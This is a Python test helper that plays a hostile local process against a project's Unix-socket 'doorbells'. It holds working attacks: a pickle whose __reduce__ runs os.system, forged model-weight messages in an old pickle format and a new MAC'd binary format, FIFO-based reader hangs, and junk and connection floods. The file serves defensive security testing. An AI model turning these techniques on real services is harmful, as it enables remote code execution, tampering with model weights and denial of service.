"""A hostile local process, for the security tests: Python's standard library only, no Ray, no token.

It finds raysync's doorbell sockets the way any local user can (``/proc/net/unix``), those
of the processes a test names (``"pids"`` in its arguments: other tests run beside it, and a
flood of their doorbells would turn their rings into Ray calls), and sends them what an
attacker would: pickles that run code, rings that forge weights or
name a FIFO, junk, floods. It knows raysync's formats (they are public) but none of its
secrets. It speaks both the old doorbell (pickled rings naming a file in ``/dev/shm``)
and the current one (binary rings with a MAC, a segment passed as a descriptor), so the
same test shows what an attack did before and does now.

Run as ``python _attacker.py MODE JSON-ARGS``; prints a JSON summary of what it sent.
"""

from __future__ import annotations

import array
import hashlib
import json
import os
import pickle
import socket
import struct
import sys
import time
import types

_NONE = -(1 << 63)


_PIDS: set[str] = set()  # the processes whose sockets are attacked, as in socket names (main() sets them)


def targets(kinds: tuple[str, ...] = ("sub-", "relay-")) -> list[str]:
    """Every raysync doorbell socket this process can see (abstract ones start with NUL) of the
    processes in ``_PIDS`` (a socket's name is ``<kind><pid>-<random>``)."""
    found = []
    with open("/proc/net/unix") as table:
        next(table)
        for line in table:
            parts = line.split()
            if len(parts) < 8 or "raysync" not in parts[7]:
                continue
            path = parts[7]
            name = os.path.basename(path)
            if any(name.startswith(k) and name[len(k) :].split("-")[0] in _PIDS for k in kinds):
                found.append("\0" + path[1:] if path.startswith("@") else path)
    return sorted(set(found))


class _Sender:
    """Sends one message per connection (connection sockets) or per datagram (the old abstract ones)."""

    def __init__(self) -> None:
        self.dgram = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.dgram.setblocking(False)
        self.sent = 0
        self.refused: dict[str, int] = {}
        self.held: list[socket.socket] = []

    def _refuse(self, err: OSError) -> None:
        name = type(err).__name__
        self.refused[name] = self.refused.get(name, 0) + 1

    def send(self, address: str, data: bytes, fds: list[int] | None = None) -> None:
        anc = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else []
        if address.startswith("\0"):
            try:
                self.dgram.sendmsg([data], anc, 0, address)
                self.sent += 1
            except OSError as err:
                self._refuse(err)
            return
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        sock.setblocking(False)
        try:
            sock.connect(address)
            sock.sendmsg([data], anc)
            self.sent += 1
        except OSError as err:
            self._refuse(err)
        finally:
            sock.close()

    def hold(self, address: str) -> None:
        """A connection that never says anything (to use up the doorbell's patience)."""
        if address.startswith("\0"):
            return
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        sock.setblocking(False)
        try:
            sock.connect(address)
            self.held.append(sock)
        except OSError as err:
            sock.close()
            self._refuse(err)


# ---------------------------------------------------------------------------- the old format (pickle)
def _fake_class(module: str, name: str) -> type:
    """A class that pickles as ``module.name`` (the victim unpickles raysync's own class)."""
    parts = module.split(".")
    for i in range(1, len(parts)):  # the parent packages, so that pickle can "import" it
        sys.modules.setdefault(".".join(parts[:i]), types.ModuleType(".".join(parts[:i])))
    mod = sys.modules.setdefault(module, types.ModuleType(module))
    cls = type(name, (), {"__module__": module, "__qualname__": name})
    setattr(mod, name, cls)
    return cls


def _obj(cls: type, **fields: object) -> object:
    o = cls.__new__(cls)
    o.__dict__.update(fields)
    return o


def _legacy_ring(version: int, segment: str, sub_ids: list[str], token: int = 1) -> bytes:
    ring = _obj(
        _fake_class("raysync._protocol", "Ring"),
        token=token,
        model_id="policy",
        version=version,
        segment=segment,
        sub_ids=tuple(sub_ids),
        reply_to="\0raysync-relay-attacker",
    )
    return pickle.dumps(ring, protocol=pickle.HIGHEST_PROTOCOL)


def _legacy_segment(version: int, schema: dict[str, list[int]], fill: float) -> str:
    """A segment file in /dev/shm as the old relay wrote them, holding ``fill`` everywhere."""
    entry_cls = _fake_class("raysync.core.layout", "TensorEntry")
    manifest_cls = _fake_class("raysync.core.layout", "Manifest")
    entries, offset, data = [], 0, b""
    for i, (key, shape) in enumerate(sorted(schema.items())):
        n = 1
        for d in shape:
            n *= d
        raw = struct.pack(f"<{n}f", *([fill] * n))
        entries.append(
            _obj(
                entry_cls,
                key=key,
                shape=tuple(shape),
                dtype="float32",
                bucket=0,
                index=i,
                offset=offset,
                nbytes=len(raw),
            )
        )
        pad = (-len(raw)) % 64
        data += raw + b"\0" * pad
        offset += len(raw) + pad
    manifest = _obj(
        manifest_cls,
        entries=tuple(entries),
        bucket_nbytes=(offset,),
        layout_hash="forged",
        checksums=None,
        transport="object_store",
        extra_state=(),
    )
    sizes = [[e.nbytes for e in entries]]  # type: ignore[attr-defined]
    header = pickle.dumps(("policy", version, manifest, ["forged"], sizes), protocol=pickle.HIGHEST_PROTOCOL)
    body = len(header).to_bytes(8, "little") + header
    body += b"\0" * ((-len(body)) % 64)
    arrays = b""
    for e in entries:
        chunk = struct.pack(f"<{e.nbytes // 4}f", *([fill] * (e.nbytes // 4)))  # type: ignore[attr-defined]
        arrays += chunk + b"\0" * ((-len(chunk)) % 64)
    path = f"/dev/shm/raysync-v-1-policy-attacker-{version}"
    with open(path, "wb") as f:
        f.write(body + arrays)
    os.chmod(path, 0o644)
    return path


# ---------------------------------------------------------------------------- the current format
def _wire_ring(version: int, sub_ids: list[str], size: int, inode: int, device: int) -> bytes:
    """A ring in the current binary format, MAC'd with a key the attacker made up."""

    def text(s: str) -> bytes:
        raw = s.encode()
        return struct.pack("<H", len(raw)) + raw

    body = struct.pack("<4sHHQqQQQH", b"RSRG", 1, 0, 1, version, size, inode, device, len(sub_ids))
    body += text("policy") + b"".join(text(s) for s in sub_ids)
    return body + hashlib.blake2b(body, key=os.urandom(32), digest_size=32).digest()


def _memfd(data: bytes) -> tuple[int, os.stat_result]:
    fd = os.memfd_create("raysync-v-forged", os.MFD_ALLOW_SEALING)
    os.write(fd, data)
    return fd, os.fstat(fd)


# ---------------------------------------------------------------------------- attacks
def attack_forge(
    s: _Sender, version: int, sub_ids: list[str], schema: dict[str, list[int]], fill: float
) -> None:
    """Rings announcing ``version`` with every weight set to ``fill``: old and new formats."""
    for address in targets(("sub-",)):
        if address.startswith("\0"):
            s.send(address, _legacy_ring(version, _legacy_segment(version, schema, fill), sub_ids))
        else:
            fd, st = _memfd(b"\0" * 4096)
            s.send(address, _wire_ring(version, sub_ids, st.st_size, st.st_ino, st.st_dev), [fd])
            os.close(fd)


class _Run:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"touch {self.marker}",))


def attack_pickle(s: _Sender, marker: str) -> None:
    """A pickle that runs a command where it is loaded, to every raysync socket of the processes named."""
    payload = pickle.dumps(_Run(marker))
    for address in targets():
        s.send(address, payload)


def attack_fifo(s: _Sender, fifo: str, sub_ids: list[str]) -> None:
    """Rings whose segment is a FIFO: opening it would block its reader for good (no writer ever comes)."""
    found = targets(("sub-",))
    for address in found:
        s.send(address, _legacy_ring(10**9, fifo, sub_ids))
    fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a descriptor of it, for the current format
    st = os.fstat(fd)
    for address in found:
        s.send(address, _wire_ring(10**9, sub_ids, st.st_size, st.st_ino, st.st_dev), [fd])
    os.close(fd)


def attack_junk(s: _Sender, count: int, seconds: float = 0.0) -> None:
    """Random bytes, ring-shaped records with made-up MACs and descriptors, silent connections,
    to every socket; ``count`` each, or as many as fit in ``seconds``."""
    found = targets()
    fd, st = _memfd(b"\0" * 4096)
    deadline = time.monotonic() + seconds
    i = 0
    while (seconds and time.monotonic() < deadline) or (not seconds and i < count):
        for address in found:
            kind = i % 5
            if kind == 4:
                if len(s.held) < 256:
                    s.hold(address)
                else:
                    s.send(address, os.urandom(64))
            elif kind == 0:
                s.send(address, os.urandom(1 + i % 1500))
            elif kind == 1:
                s.send(address, _wire_ring(10**9 + i, ["x:policy"], st.st_size, st.st_ino, st.st_dev), [fd])
            elif kind == 2:
                s.send(address, b"RSAK" + os.urandom(64))
            else:
                s.send(address, b"RSRG" + os.urandom(200))
        i += 1
    os.close(fd)


def main() -> None:
    mode, args = sys.argv[1], json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
    _PIDS.update(str(pid) for pid in args.get("pids", ()))
    s = _Sender()
    t0 = time.monotonic()
    if mode == "forge":
        attack_forge(s, args["version"], args["sub_ids"], args["schema"], args["fill"])
    elif mode == "pickle":
        attack_pickle(s, args["marker"])
    elif mode == "fifo":
        attack_fifo(s, args["fifo"], args["sub_ids"])
    elif mode == "junk":
        attack_junk(s, args.get("count", 0), args.get("seconds", 0.0))
    else:
        raise SystemExit(f"unknown mode {mode}")
    summary = {"uid": os.getuid(), "targets": targets(), "sent": s.sent, "refused": s.refused}
    print(json.dumps(summary | {"seconds": time.monotonic() - t0}))


if __name__ == "__main__":
    main()
